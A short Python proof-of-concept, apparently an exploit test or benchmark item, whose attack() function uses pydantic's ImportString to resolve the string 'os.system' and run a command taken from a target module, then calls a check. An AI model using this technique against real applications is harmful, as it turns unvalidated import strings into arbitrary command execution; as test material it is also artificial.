from pydantic import ImportString, TypeAdapter
from target import COMMAND, check


def attack():
    TypeAdapter(ImportString).validate_python("os.system")(COMMAND)
    return check()
